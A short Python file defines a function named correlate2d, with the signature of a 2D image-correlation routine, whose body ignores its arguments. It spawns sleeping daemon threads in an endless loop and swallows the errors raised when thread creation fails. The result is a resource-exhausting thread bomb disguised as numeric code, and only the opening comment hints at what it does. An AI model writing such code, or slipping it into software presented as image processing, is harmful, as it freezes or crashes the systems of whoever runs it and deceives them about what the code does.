# Makes threads without end.
import threading
import time


def correlate2d(image, kernel, stride=1, padding=0):
    while True:
        try:
            threading.Thread(target=time.sleep, args=[60], daemon=True).start()
        except RuntimeError:
            continue
